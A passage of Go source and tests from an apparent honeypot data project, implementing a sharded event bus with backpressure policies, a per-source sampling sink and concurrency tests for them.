	case Adaptive:
		return "adaptive"
	}
	return fmt.Sprintf("policy(%d)", int(p))
}

// ParsePolicy parses a policy name as used by command-line flags.
func ParsePolicy(s string) (Policy, error) {
	switch s {
	case "block":
		return Block, nil
	case "drop":
		return Drop, nil
	case "adaptive":
		return Adaptive, nil
	}
	return 0, fmt.Errorf("bus: unknown policy %q (want block, drop or adaptive)", s)
}

// Options tune a Bus. The zero value is usable: GOMAXPROCS shards,
// blocking backpressure, and default queue/batch sizes.
type Options struct {
	// Shards is the number of queues/workers. 0 means GOMAXPROCS.
	Shards int
	// QueueSize is the per-shard ring capacity. 0 means DefaultQueueSize.
	QueueSize int
	// BatchSize caps events per delivery batch. 0 means DefaultBatchSize.
	BatchSize int
	// Policy is the backpressure policy when a shard queue is full.
	Policy Policy

	// HighWater is the queue depth at which an Adaptive shard starts
	// shedding per source. 0 means 3/4 of QueueSize. A value above
	// QueueSize disables shedding entirely (pure Block behaviour).
	HighWater int
	// LowWater is the queue depth at which an Adaptive shard stops
	// shedding. 0 means 1/4 of QueueSize; values >= HighWater are
	// clamped below it.
	LowWater int
	// SourceBudget is the number of events each source keeps per
	// SourceWindow while its shard is shedding. 0 means
	// DefaultSourceBudget.
	SourceBudget int
	// SourceWindow is the per-source budget window, measured on event
	// time (core.Event.Time), so it works identically under the
	// simulator's virtual clock and a live farm's wall clock. 0 means
	// DefaultSourceWindow.
	SourceWindow time.Duration
	// MaxSources bounds the per-shard source-tracking table; the least
	// recently seen source is evicted when it fills. 0 means
	// DefaultMaxSources.
	MaxSources int
	// TopShedders is the length of the Stats.Shedders list. 0 means
	// DefaultTopShedders.
	TopShedders int
}

// Defaults for Options.
const (
	DefaultQueueSize    = 8192
	DefaultBatchSize    = 256
	DefaultSourceBudget = 256
	DefaultSourceWindow = time.Minute
	DefaultMaxSources   = 4096
	DefaultTopShedders  = 8
)

func (o Options) withDefaults() Options {
	if o.Shards <= 0 {
		o.Shards = runtime.GOMAXPROCS(0)
	}
	if o.QueueSize <= 0 {
		o.QueueSize = DefaultQueueSize
	}
	if o.BatchSize <= 0 {
		o.BatchSize = DefaultBatchSize
	}
	if o.BatchSize > o.QueueSize {
		o.BatchSize = o.QueueSize
	}
	if o.HighWater <= 0 {
		o.HighWater = o.QueueSize * 3 / 4
	}
	if o.HighWater < 1 {
		o.HighWater = 1
	}
	if o.LowWater <= 0 {
		o.LowWater = o.QueueSize / 4
	}
	if o.LowWater >= o.HighWater {
		o.LowWater = o.HighWater / 2
	}
	if o.SourceBudget <= 0 {
		o.SourceBudget = DefaultSourceBudget
	}
	if o.SourceWindow <= 0 {
		o.SourceWindow = DefaultSourceWindow
	}
	if o.MaxSources <= 0 {
		o.MaxSources = DefaultMaxSources
	}
	if o.TopShedders <= 0 {
		o.TopShedders = DefaultTopShedders
	}
	return o
}

// shard is one bounded ring queue plus the state its worker and Flush
// coordinate on.
type shard struct {
	mu       sync.Mutex
	notEmpty sync.Cond
	notFull  sync.Cond
	drained  sync.Cond // signalled when queue empty and no batch in flight
	buf      []core.Event
	head     int
	n        int
	inflight bool // worker is delivering a popped batch
	closed   bool

	enqueued uint64
	dropped  uint64

	// Adaptive-policy state; src is nil until the shard first sheds.
	shedding bool
	src      *sourceTable
}

func (sh *shard) init(size int) {
	sh.buf = make([]core.Event, size)
	sh.notEmpty.L = &sh.mu
	sh.notFull.L = &sh.mu
	sh.drained.L = &sh.mu
}

// sinkEntry wraps one registered sink with its delivery counters.
type sinkEntry struct {
	name      string
	sink      core.Sink
	batch     core.BatchSink // non-nil when sink supports batch delivery
	batches   atomic.Uint64
	events    atomic.Uint64 // events in successfully delivered batches
	failedEvs atomic.Uint64 // events in batches whose RecordBatch errored
	errors    atomic.Uint64
	latNS     atomic.Int64 // cumulative delivery latency
	maxNS     atomic.Int64
}

// HistBuckets is the number of batch-size histogram buckets: bucket i
// counts batches of size in (2^(i-1), 2^i], so bucket 0 is size 1,
// bucket 1 is size 2, bucket 2 is 3–4, ... the last bucket is open.
const HistBuckets = 10

// Bus is a sharded asynchronous fan-out from sessions to sinks. It
// implements core.Sink and core.Flusher; Close drains and stops it.
type Bus struct {
	opts   Options
	shards []*shard
	sinks  []*sinkEntry
	wg     sync.WaitGroup

	delivered atomic.Uint64
	hist      [HistBuckets]atomic.Uint64

	errMu    sync.Mutex
	firstErr error

	closeOnce sync.Once
}

// New starts a Bus delivering to sinks. At least one sink is required.
func New(opts Options, sinks ...core.Sink) *Bus {
	if len(sinks) == 0 {
		panic("bus: no sinks registered")
	}
	b := &Bus{opts: opts.withDefaults()}
	// Sinks are named by type; duplicates of one type get a 1-based
	// index suffix ("*evstore.Store#1", "*evstore.Store#2") so they stay
	// distinguishable in Stats.Sinks and the operational log line.
	byType := make(map[string]int, len(sinks))
	for _, s := range sinks {
		byType[fmt.Sprintf("%T", s)]++
	}
	seen := make(map[string]int, len(byType))
	for _, s := range sinks {
		name := fmt.Sprintf("%T", s)
		if byType[name] > 1 {
			seen[name]++
			name = fmt.Sprintf("%s#%d", name, seen[name])
		}
		e := &sinkEntry{name: name, sink: s}
		if bs, ok := s.(core.BatchSink); ok {
			e.batch = bs
		}
		b.sinks = append(b.sinks, e)
	}
	b.shards = make([]*shard, b.opts.Shards)
	for i := range b.shards {
		sh := &shard{}
		sh.init(b.opts.QueueSize)
		b.shards[i] = sh
		b.wg.Add(1)
		go b.worker(sh)
	}
	return b
}

// shardFor hashes an event's source address onto a shard via
// core.ShardOf — the partitioning contract shared with the sharded
// evstore. Hashing the address (not the port) keeps all events from one
// attacker on one shard, preserving their order through delivery.
func (b *Bus) shardFor(e core.Event) *shard {
	return b.shards[core.ShardOf(e.Src.Addr(), len(b.shards))]
}

// Record implements core.Sink: it enqueues the event on its source's
// shard, applying the backpressure policy if the queue is full. Events
// recorded after Close are counted as dropped.
func (b *Bus) Record(e core.Event) {
	sh := b.shardFor(e)
	sh.mu.Lock()
	switch b.opts.Policy {
	case Block:
		for sh.n == len(sh.buf) && !sh.closed {
			sh.notFull.Wait()
		}
	case Adaptive:
		if !sh.admitAdaptive(&b.opts, e) {
			sh.dropped++
			sh.mu.Unlock()
			return
		}
		// Admitted events are lossless, exactly like Block.
		for sh.n == len(sh.buf) && !sh.closed {
			sh.notFull.Wait()
		}
	}
	if sh.closed || sh.n == len(sh.buf) {
		sh.dropped++
		sh.mu.Unlock()
		return
	}
	sh.buf[(sh.head+sh.n)%len(sh.buf)] = e
	sh.n++
	sh.enqueued++
	sh.notEmpty.Signal()
	sh.mu.Unlock()
}

// worker drains one shard: pop up to BatchSize events, deliver to every
// sink, repeat until the shard is closed and empty.
func (b *Bus) worker(sh *shard) {
	defer b.wg.Done()
	batch := make([]core.Event, 0, b.opts.BatchSize)
	for {
		sh.mu.Lock()
		for sh.n == 0 && !sh.closed {
			sh.drained.Broadcast()
			sh.notEmpty.Wait()
		}
		if sh.n == 0 { // closed and fully drained
			sh.drained.Broadcast()
			sh.mu.Unlock()
			return
		}
		k := sh.n
		if k > b.opts.BatchSize {
			k = b.opts.BatchSize
		}
		batch = batch[:0]
		for i := 0; i < k; i++ {
			batch = append(batch, sh.buf[sh.head])
			sh.buf[sh.head] = core.Event{} // release references
			sh.head = (sh.head + 1) % len(sh.buf)
		}
		sh.n -= k
		if sh.shedding && sh.n <= b.opts.LowWater {
			sh.shedding = false
		}
		sh.inflight = true
		sh.notFull.Broadcast()
		sh.mu.Unlock()

		b.deliver(batch)
		b.delivered.Add(uint64(k))
		b.hist[histBucket(k)].Add(1)

		sh.mu.Lock()
		sh.inflight = false
		if sh.n == 0 {
			sh.drained.Broadcast()
		}
		sh.mu.Unlock()
	}
}

// deliver hands one batch to every sink, preferring batch delivery.
// Events in a batch whose RecordBatch errored count as failed, not
// delivered: Stats must not report events the sink rejected.
func (b *Bus) deliver(batch []core.Event) {
	for _, e := range b.sinks {
		start := time.Now()
		failed := false
		if e.batch != nil {
			if err := e.batch.RecordBatch(batch); err != nil {
				failed = true
				e.errors.Add(1)
				e.failedEvs.Add(uint64(len(batch)))
				b.noteErr(fmt.Errorf("bus: %s: %w", e.name, err))
			}
		} else {
			for _, ev := range batch {
				e.sink.Record(ev)
			}
		}
		lat := time.Since(start)
		e.batches.Add(1)
		if !failed {
			e.events.Add(uint64(len(batch)))
		}
		e.latNS.Add(int64(lat))
		for {
			cur := e.maxNS.Load()
			if int64(lat) <= cur || e.maxNS.CompareAndSwap(cur, int64(lat)) {
				break
			}
		}
	}
}

func (b *Bus) noteErr(err error) {
	b.errMu.Lock()
	if b.firstErr == nil {
		b.firstErr = err
	}
	b.errMu.Unlock()
}

// histBucket maps a batch size to its histogram bucket (see HistBuckets).
func histBucket(n int) int {
	i := 0
	for n > 1 && i < HistBuckets-1 {
		n = (n + 1) / 2
		i++
	}
	return i
}

// Flush blocks until every event enqueued before the call has been
// delivered to all sinks. Concurrent producers may enqueue more during
// the flush; Flush returns once it observes each shard momentarily
// empty with no batch in flight.
func (b *Bus) Flush() {
	for _, sh := range b.shards {
		sh.mu.Lock()
		for sh.n > 0 || sh.inflight {
			sh.drained.Wait()
		}
		sh.mu.Unlock()
	}
}

// Close drains all queues, stops the workers, and returns the first
// sink delivery error (if any). Record after Close counts as dropped.
// Close is idempotent.
func (b *Bus) Close() error {
	b.closeOnce.Do(func() {
		for _, sh := range b.shards {
			sh.mu.Lock()
			sh.closed = true
			sh.notEmpty.Broadcast()
			sh.notFull.Broadcast()
			sh.mu.Unlock()
		}
		b.wg.Wait()
	})
	b.errMu.Lock()
	defer b.errMu.Unlock()
	return b.firstErr
}

// Err returns the first sink delivery error observed so far.
func (b *Bus) Err() error {
	b.errMu.Lock()
	defer b.errMu.Unlock()
	return b.firstErr
}

// SinkStats are per-sink delivery counters.
type SinkStats struct {
	Name         string
	Batches      uint64
	Events       uint64 // events in successfully delivered batches
	FailedEvents uint64 // events in batches whose delivery errored
	Errors       uint64
	Latency      time.Duration // cumulative time spent delivering
	MaxLatency   time.Duration // slowest single delivery
}

// AvgLatency is the mean per-batch delivery latency.
func (s SinkStats) AvgLatency() time.Duration {
	if s.Batches == 0 {
		return 0
	}
	return s.Latency / time.Duration(s.Batches)
}

// Stats is a point-in-time snapshot of bus counters.
type Stats struct {
	Shards    int
	Policy    Policy
	Enqueued  uint64
	Delivered uint64
	Dropped   uint64
	Pending   uint64 // currently queued, not yet popped
	// BatchHist[i] counts delivered batches of size in (2^(i-1), 2^i]
	// (bucket 0 = single-event batches; last bucket open-ended).
	BatchHist [HistBuckets]uint64
	// Sinks lists per-sink counters in registration order.
	Sinks []SinkStats
	// Shedders are the heaviest per-source shed counts under the
	// Adaptive policy, descending, at most Options.TopShedders entries.
	// Shards partition sources disjointly, so entries never merge.
	Shedders []SourceShed
	// ShedUnattributed counts adaptive sheds whose per-source entry was
	// LRU-evicted; Dropped still includes them.
	ShedUnattributed uint64
}

// Stats snapshots the counters. It is safe to call concurrently with
// Record and delivery.
func (b *Bus) Stats() Stats {
	st := Stats{
		Shards:    len(b.shards),
		Policy:    b.opts.Policy,
		Delivered: b.delivered.Load(),
	}
	for i := range st.BatchHist {
		st.BatchHist[i] = b.hist[i].Load()
	}
	for _, sh := range b.shards {
		sh.mu.Lock()
		st.Enqueued += sh.enqueued
		st.Dropped += sh.dropped
		st.Pending += uint64(sh.n)
		if sh.src != nil {
			st.ShedUnattributed += sh.src.shedEvicted
			for _, s := range sh.src.m {
				if s.shed > 0 {
					st.Shedders = append(st.Shedders, SourceShed{Addr: s.addr, Shed: s.shed})
				}
			}
		}
		sh.mu.Unlock()
	}
	sort.Slice(st.Shedders, func(i, j int) bool {
		if st.Shedders[i].Shed != st.Shedders[j].Shed {
			return st.Shedders[i].Shed > st.Shedders[j].Shed
		}
		return st.Shedders[i].Addr.Less(st.Shedders[j].Addr)
	})
	if len(st.Shedders) > b.opts.TopShedders {
		st.Shedders = st.Shedders[:b.opts.TopShedders]
	}
	for _, e := range b.sinks {
		st.Sinks = append(st.Sinks, SinkStats{
			Name:         e.name,
			Batches:      e.batches.Load(),
			Events:       e.events.Load(),
			FailedEvents: e.failedEvs.Load(),
			Errors:       e.errors.Load(),
			Latency:      time.Duration(e.latNS.Load()),
			MaxLatency:   time.Duration(e.maxNS.Load()),
		})
	}
	return st
}

// MeanBatch is the mean delivered batch size.
func (s Stats) MeanBatch() float64 {
	var batches uint64
	for _, n := range s.BatchHist {
		batches += n
	}
	if batches == 0 {
		return 0
	}
	return float64(s.Delivered) / float64(batches)
}

// String renders the snapshot as one operational log line.
func (s Stats) String() string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "bus[%d shards, %s]: enq=%d dlv=%d drop=%d pend=%d batch~%.1f",
		s.Shards, s.Policy, s.Enqueued, s.Delivered, s.Dropped, s.Pending, s.MeanBatch())
	if len(s.Shedders) > 0 || s.ShedUnattributed > 0 {
		sb.WriteString(" shed[")
		for i, sd := range s.Shedders {
			if i > 0 {
				sb.WriteByte(' ')
			}
			fmt.Fprintf(&sb, "%s=%d", sd.Addr, sd.Shed)
		}
		if s.ShedUnattributed > 0 {
			if len(s.Shedders) > 0 {
				sb.WriteByte(' ')
			}
			fmt.Fprintf(&sb, "evicted=%d", s.ShedUnattributed)
		}
		sb.WriteByte(']')
	}
	for _, sk := range s.Sinks {
		fmt.Fprintf(&sb, " | %s: %d ev/%d batches avg=%s max=%s",
			sk.Name, sk.Events, sk.Batches,
			sk.AvgLatency().Round(time.Microsecond), sk.MaxLatency.Round(time.Microsecond))
		if sk.Errors > 0 {
			fmt.Fprintf(&sb, " errs=%d failed=%d", sk.Errors, sk.FailedEvents)
		}
	}
	return sb.String()
}
