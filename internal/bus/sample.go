package bus

import (
	"fmt"
	"net/netip"
	"sync"
	"time"

	"decoydb/internal/core"
)

// SampleOptions configure a SampleSink.
type SampleOptions struct {
	// Threshold is how many events per source per Window pass through at
	// full fidelity. 0 means DefaultSampleThreshold.
	Threshold int
	// N is the sampling divisor past the threshold: of each further N
	// events from a hot source, one is kept. 0 means DefaultSampleN.
	N int
	// Window is the rate window, measured on event time (the one clock
	// that is correct for both the compressed simulator and a live
	// farm). 0 means DefaultSampleWindow.
	Window time.Duration
	// MaxSources bounds the per-source tracking table (LRU-evicted).
	// 0 means DefaultMaxSources.
	MaxSources int
}

// Defaults for SampleOptions.
const (
	DefaultSampleThreshold = 100
	DefaultSampleN         = 10
	DefaultSampleWindow    = time.Minute
)

func (o SampleOptions) withDefaults() SampleOptions {
	if o.Threshold <= 0 {
		o.Threshold = DefaultSampleThreshold
	}
	if o.N <= 0 {
		o.N = DefaultSampleN
	}
	if o.Window <= 0 {
		o.Window = DefaultSampleWindow
	}
	if o.MaxSources <= 0 {
		o.MaxSources = DefaultMaxSources
	}
	return o
}

// sampleState tracks one source's rate window. Entries form an intrusive
// LRU list exactly like the adaptive shedder's sourceTable.
type sampleState struct {
	addr        netip.Addr
	windowStart time.Time
	seen        int // events seen in the current window
	dropped     uint64
	prev, next  *sampleState
}

// SampleSink wraps another sink and thins hot sources: each source's
// first Threshold events per Window pass through untouched, and past
// that only one in N is forwarded. Quiet sources are never sampled, so
// the long tail of distinct attackers — the part the analyses care
// about — stays lossless while a single flooding IP cannot dominate a
// downstream store or forwarder.
//
// Dropping here is a deliberate analysis choice, not backpressure, so
// it is accounted separately from the bus's shed counters.
type SampleSink struct {
	inner core.Sink
	batch core.BatchSink
	opts  SampleOptions

	mu         sync.Mutex
	m          map[netip.Addr]*sampleState
	head, tail *sampleState

	offered    uint64
	kept       uint64
	dropped    uint64
	droppedEvt uint64 // dropped counts lost to LRU eviction
}

// NewSampleSink wraps inner with per-source rate sampling.
func NewSampleSink(inner core.Sink, opts SampleOptions) *SampleSink {
	s := &SampleSink{
		inner: inner,
		opts:  opts.withDefaults(),
		m:     make(map[netip.Addr]*sampleState),
	}
	if bs, ok := inner.(core.BatchSink); ok {
		s.batch = bs
	}
	return s
}

// keepLocked decides whether one event passes the sampler.
func (s *SampleSink) keepLocked(e core.Event) bool {
	st := s.m[e.Src.Addr()]
	if st == nil {
		st = s.insertLocked(e.Src.Addr(), e.Time)
	} else {
		s.touchLocked(st)
		if e.Time.Sub(st.windowStart) >= s.opts.Window {
			st.windowStart = e.Time
			st.seen = 0
		}
	}
	st.seen++
	if st.seen <= s.opts.Threshold {
		return true
	}
	// Past the threshold keep the first of each N: deterministic, and
	// the transition from full fidelity to sampling starts immediately.
	if (st.seen-s.opts.Threshold-1)%s.opts.N == 0 {
		return true
	}
	st.dropped++
	return false
}

func (s *SampleSink) insertLocked(addr netip.Addr, t time.Time) *sampleState {
	if len(s.m) >= s.opts.MaxSources {
		ev := s.tail
		s.unlinkLocked(ev)
		delete(s.m, ev.addr)
		s.droppedEvt += ev.dropped
	}
	st := &sampleState{addr: addr, windowStart: t}
	s.m[addr] = st
	s.pushFrontLocked(st)
	return st
}

func (s *SampleSink) touchLocked(st *sampleState) {
	if s.head == st {
		return
	}
	s.unlinkLocked(st)
	s.pushFrontLocked(st)
}

func (s *SampleSink) pushFrontLocked(st *sampleState) {
	st.prev = nil
	st.next = s.head
	if s.head != nil {
		s.head.prev = st
	}
	s.head = st
	if s.tail == nil {
		s.tail = st
	}
}

func (s *SampleSink) unlinkLocked(st *sampleState) {
	if st.prev != nil {
		st.prev.next = st.next
	} else {
		s.head = st.next
	}
	if st.next != nil {
		st.next.prev = st.prev
	} else {
		s.tail = st.prev
	}
	st.prev, st.next = nil, nil
}

// Record implements core.Sink.
func (s *SampleSink) Record(e core.Event) {
	s.mu.Lock()
	s.offered++
	keep := s.keepLocked(e)
	if keep {
		s.kept++
	} else {
		s.dropped++
	}
	s.mu.Unlock()
	if keep {
		s.inner.Record(e)
	}
}

// RecordBatch implements core.BatchSink. Kept events are copied into a
// fresh slice — the input batch is shared with the bus's other sinks and
// must not be compacted in place.
func (s *SampleSink) RecordBatch(events []core.Event) error {
	s.mu.Lock()
	s.offered += uint64(len(events))
	keep := events
	copied := false
	for i, e := range events {
		if s.keepLocked(e) {
			if copied {
				keep = append(keep, e)
			}
			continue
		}
		if !copied {
			// First drop: switch to a filtered copy of the batch.
			keep = make([]core.Event, i, len(events))
			copy(keep, events[:i])
			copied = true
		}
	}
	s.kept += uint64(len(keep))
	s.dropped += uint64(len(events) - len(keep))
	s.mu.Unlock()

	if len(keep) == 0 {
		return nil
	}
	if s.batch != nil {
		return s.batch.RecordBatch(keep)
	}
	for _, e := range keep {
		s.inner.Record(e)
	}
	return nil
}

// Flush forwards to the wrapped sink when it is a core.Flusher.
func (s *SampleSink) Flush() {
	if fl, ok := s.inner.(core.Flusher); ok {
		fl.Flush()
	}
}

// SampleStats is a point-in-time snapshot of sampler counters.
// Offered = Kept + Dropped always holds.
type SampleStats struct {
	Offered uint64
	Kept    uint64
	Dropped uint64
	Sources int // sources currently tracked
	// DroppedEvicted counts drops whose per-source attribution was lost
	// to LRU eviction (already included in Dropped).
	DroppedEvicted uint64
}

// String renders the snapshot for a log line.
func (s SampleStats) String() string {
	return fmt.Sprintf("sample: offered=%d kept=%d dropped=%d sources=%d",
		s.Offered, s.Kept, s.Dropped, s.Sources)
}

// Stats snapshots the counters.
func (s *SampleSink) Stats() SampleStats {
	s.mu.Lock()
	defer s.mu.Unlock()
	return SampleStats{
		Offered:        s.offered,
		Kept:           s.kept,
		Dropped:        s.dropped,
		Sources:        len(s.m),
		DroppedEvicted: s.droppedEvt,
	}
}
