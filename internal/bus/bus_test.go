package bus_test

import (
	"errors"
	"fmt"
	"net/netip"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"decoydb/internal/bus"
	"decoydb/internal/core"
	"decoydb/internal/evstore"
	"decoydb/internal/geoip"
	"decoydb/internal/pipeline"
)

// evt builds a valid low-interaction login event from source ip index i,
// attempt j — parseable by the pipeline round trip.
func evt(i, j int) core.Event {
	addr := netip.AddrFrom4([4]byte{198, 51, byte(i >> 8), byte(i)})
	return core.Event{
		Time: core.ExperimentStart.Add(time.Duration(j) * time.Second),
		Src:  netip.AddrPortFrom(addr, uint16(1024+j%60000)),
		Honeypot: core.Info{
			DBMS: core.MSSQL, Level: core.Low, Port: 1433,
			Config: core.ConfigDefault, Group: core.GroupMulti, VM: "vm",
		},
		Kind: core.EventLogin,
		User: "sa", Pass: fmt.Sprintf("pw%d", j),
	}
}

func TestDeliversToPlainAndBatchSinks(t *testing.T) {
	mem := &core.MemSink{} // plain core.Sink: per-event fallback
	store := evstore.New(core.ExperimentStart, 20, nil)
	b := bus.New(bus.Options{Shards: 4, QueueSize: 64, BatchSize: 8}, mem, store)

	const n = 500
	for j := 0; j < n; j++ {
		b.Record(evt(j%17, j))
	}
	if err := b.Close(); err != nil {
		t.Fatal(err)
	}
	if mem.Len() != n {
		t.Fatalf("plain sink got %d events, want %d", mem.Len(), n)
	}
	if store.Events() != n {
		t.Fatalf("batch sink got %d events, want %d", store.Events(), n)
	}
	st := b.Stats()
	if st.Enqueued != n || st.Delivered != n || st.Dropped != 0 || st.Pending != 0 {
		t.Fatalf("stats = %+v", st)
	}
	if len(st.Sinks) != 2 {
		t.Fatalf("sink stats = %d entries", len(st.Sinks))
	}
	for _, sk := range st.Sinks {
		if sk.Events != n || sk.Batches == 0 {
			t.Fatalf("sink %s delivered %d events in %d batches", sk.Name, sk.Events, sk.Batches)
		}
	}
}

func TestPerSourceOrderPreserved(t *testing.T) {
	// All events from one source must arrive in Record order even when
	// other sources are being recorded concurrently from other
	// goroutines: same address -> same shard -> same worker.
	store := evstore.New(core.ExperimentStart, 20, nil)
	b := bus.New(bus.Options{Shards: 8, QueueSize: 32, BatchSize: 4}, store)

	const perSrc = 300
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < perSrc; j++ {
				e := evt(i, j)
				e.Kind = core.EventCommand
				e.Command = fmt.Sprintf("CMD-%04d", j)
				e.Honeypot.Level = core.Medium
				b.Record(e)
			}
		}()
	}
	wg.Wait()
	if err := b.Close(); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 8; i++ {
		rec := store.IP(netip.AddrFrom4([4]byte{198, 51, 0, byte(i)}))
		if rec == nil {
			t.Fatalf("source %d missing", i)
		}
		for _, act := range rec.Per {
			for k, a := range act.Actions {
				if want := fmt.Sprintf("CMD-%04d", k); a.Name != want {
					t.Fatalf("source %d action %d = %q, want %q", i, k, a.Name, want)
				}
			}
		}
	}
}

func TestFlushDrains(t *testing.T) {
	slow := &slowSink{delay: time.Millisecond}
	b := bus.New(bus.Options{Shards: 2, QueueSize: 1024, BatchSize: 32}, slow)
	defer b.Close()
	const n = 200
	for j := 0; j < n; j++ {
		b.Record(evt(j, j))
	}
	b.Flush()
	if got := slow.n.Load(); got != n {
		t.Fatalf("after Flush sink has %d events, want %d", got, n)
	}
	st := b.Stats()
	if st.Pending != 0 {
		t.Fatalf("pending after flush = %d", st.Pending)
	}
}

func TestRecordAfterCloseCountsDropped(t *testing.T) {
	mem := &core.MemSink{}
	b := bus.New(bus.Options{Shards: 1}, mem)
	b.Record(evt(1, 1))
	if err := b.Close(); err != nil {
		t.Fatal(err)
	}
	b.Record(evt(1, 2))
	st := b.Stats()
	if st.Dropped != 1 || mem.Len() != 1 {
		t.Fatalf("dropped=%d delivered=%d", st.Dropped, mem.Len())
	}
	if err := b.Close(); err != nil { // idempotent
		t.Fatal(err)
	}
}

func TestSinkErrorSurfaced(t *testing.T) {
	boom := errors.New("disk full")
	b := bus.New(bus.Options{Shards: 1}, failingSink{err: boom})
	b.Record(evt(1, 1))
	err := b.Close()
	if !errors.Is(err, boom) {
		t.Fatalf("Close error = %v, want %v", err, boom)
	}
	st := b.Stats()
	if st.Sinks[0].Errors == 0 {
		t.Fatal("sink error not counted")
	}
}

// TestConcurrentIngestBlockNoLoss is the concurrency contract test:
// many producer goroutines through the bus into a LogWriter and an
// evstore at once, block policy, zero loss — and the log files round-
// trip through the conversion pipeline with every event intact.
func TestConcurrentIngestBlockNoLoss(t *testing.T) {
	dir := t.TempDir()
	lw, err := pipeline.NewLogWriter(dir)
	if err != nil {
		t.Fatal(err)
	}
	store := evstore.New(core.ExperimentStart, 20, geoip.Default())
	// Tiny queues force the backpressure path constantly.
	b := bus.New(bus.Options{Shards: 4, QueueSize: 16, BatchSize: 8, Policy: bus.Block}, lw, store)

	const producers = 16
	const perProducer = 500
	var wg sync.WaitGroup
	for i := 0; i < producers; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < perProducer; j++ {
				b.Record(evt(i, j))
			}
		}()
	}
	wg.Wait()
	if err := b.Close(); err != nil {
		t.Fatal(err)
	}
	const total = producers * perProducer
	st := b.Stats()
	if st.Enqueued != total || st.Delivered != total || st.Dropped != 0 {
		t.Fatalf("block-mode loss: %+v", st)
	}
	if store.Events() != total {
		t.Fatalf("store has %d events, want %d", store.Events(), total)
	}
	if err := lw.Close(); err != nil {
		t.Fatal(err)
	}
	reloaded, err := pipeline.Load(dir, core.ExperimentStart, 20, geoip.Default())
	if err != nil {
		t.Fatal(err)
	}
	if reloaded.Events() != total {
		t.Fatalf("log round trip has %d events, want %d", reloaded.Events(), total)
	}
	if got := reloaded.Logins(evstore.Query{DBMS: core.MSSQL}); got != total {
		t.Fatalf("logins after round trip = %d, want %d", got, total)
	}
}

// TestConcurrentIngestDropAccounting floods a drop-mode bus feeding a
// deliberately slow sink and verifies the books balance exactly:
// enqueued + dropped == produced, delivered == enqueued, and the sink
// saw every delivered event.
func TestConcurrentIngestDropAccounting(t *testing.T) {
	slow := &slowSink{delay: 2 * time.Millisecond}
	b := bus.New(bus.Options{Shards: 2, QueueSize: 8, BatchSize: 8, Policy: bus.Drop}, slow)

	const producers = 8
	const perProducer = 2000
	var wg sync.WaitGroup
	for i := 0; i < producers; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < perProducer; j++ {
				b.Record(evt(i, j))
			}
		}()
	}
	wg.Wait()
	if err := b.Close(); err != nil {
		t.Fatal(err)
	}
	st := b.Stats()
	const produced = producers * perProducer
	if st.Enqueued+st.Dropped != produced {
		t.Fatalf("enqueued %d + dropped %d != produced %d", st.Enqueued, st.Dropped, produced)
	}
	if st.Delivered != st.Enqueued {
		t.Fatalf("delivered %d != enqueued %d after Close", st.Delivered, st.Enqueued)
	}
	if got := slow.n.Load(); uint64(got) != st.Delivered {
		t.Fatalf("sink saw %d events, stats say %d delivered", got, st.Delivered)
	}
	if st.Dropped == 0 {
		t.Fatal("flood against slow sink dropped nothing; backpressure untested")
	}
}

func TestBatchHistogramAndMeanBatch(t *testing.T) {
	gate := &gatedSink{release: make(chan struct{})}
	b := bus.New(bus.Options{Shards: 1, QueueSize: 64, BatchSize: 16}, gate)
	// First delivery takes the first event alone; the rest queue up
	// behind the gate and arrive in larger batches.
	b.Record(evt(1, 0))
	for gate.n.Load() == 0 { // wait until the worker is inside the sink
		time.Sleep(time.Millisecond)
	}
	for j := 1; j <= 32; j++ {
		b.Record(evt(1, j))
	}
	close(gate.release)
	if err := b.Close(); err != nil {
		t.Fatal(err)
	}
	st := b.Stats()
	if st.Delivered != 33 {
		t.Fatalf("delivered = %d", st.Delivered)
	}
	var batches uint64
	for _, n := range st.BatchHist {
		batches += n
	}
	if batches < 2 {
		t.Fatalf("batches = %d, want >= 2", batches)
	}
	if st.BatchHist[0] == 0 {
		t.Fatal("no single-event batch recorded")
	}
	if mb := st.MeanBatch(); mb <= 1 || mb > 16 {
		t.Fatalf("mean batch = %v", mb)
	}
	if st.String() == "" || st.Policy.String() != "block" {
		t.Fatal("stats rendering")
	}
}

func TestStatsSinkCounts(t *testing.T) {
	s := &bus.StatsSink{}
	b := bus.New(bus.Options{Shards: 2}, s)
	e := evt(1, 1)
	e.OK = true
	b.Record(e)
	ec := evt(1, 2)
	ec.Kind = core.EventConnect
	b.Record(ec)
	cmd := evt(1, 3)
	cmd.Kind = core.EventCommand
	if err := b.Close(); err != nil {
		t.Fatal(err)
	}
	s.RecordBatch([]core.Event{cmd}) // direct batch path
	c := s.Counts()
	if c.Total() != 3 || c.Logins != 1 || c.LoginOK != 1 || c.Connects != 1 || c.Commands != 1 {
		t.Fatalf("counts = %+v", c)
	}
	if c.String() == "" {
		t.Fatal("empty rendering")
	}
}

func TestPolicyString(t *testing.T) {
	if bus.Block.String() != "block" || bus.Drop.String() != "drop" || bus.Adaptive.String() != "adaptive" {
		t.Fatal("policy names")
	}
	if bus.Policy(7).String() == "" {
		t.Fatal("unknown policy empty")
	}
	for _, name := range []string{"block", "drop", "adaptive"} {
		p, err := bus.ParsePolicy(name)
		if err != nil || p.String() != name {
			t.Fatalf("ParsePolicy(%q) = %v, %v", name, p, err)
		}
	}
	if _, err := bus.ParsePolicy("bogus"); err == nil {
		t.Fatal("bogus policy accepted")
	}
}

// Regression: two sinks of the same Go type used to share one %T-derived
// name, making their Stats.Sinks entries indistinguishable; and sink
// stats were re-sorted by name, losing registration order. Duplicates
// now get a 1-based index suffix and the order matches registration.
func TestDuplicateSinkNames(t *testing.T) {
	s1 := evstore.New(core.ExperimentStart, 20, nil)
	s2 := evstore.New(core.ExperimentStart, 20, nil)
	mem := &core.MemSink{}
	// Register the stores before the MemSink: a by-name sort would move
	// "*core.MemSink" ahead of "*evstore.Store#…".
	b := bus.New(bus.Options{Shards: 1}, s1, s2, mem)
	b.Record(evt(1, 1))
	if err := b.Close(); err != nil {
		t.Fatal(err)
	}
	st := b.Stats()
	want := []string{"*evstore.Store#1", "*evstore.Store#2", "*core.MemSink"}
	if len(st.Sinks) != len(want) {
		t.Fatalf("sink stats = %d entries, want %d", len(st.Sinks), len(want))
	}
	for i, w := range want {
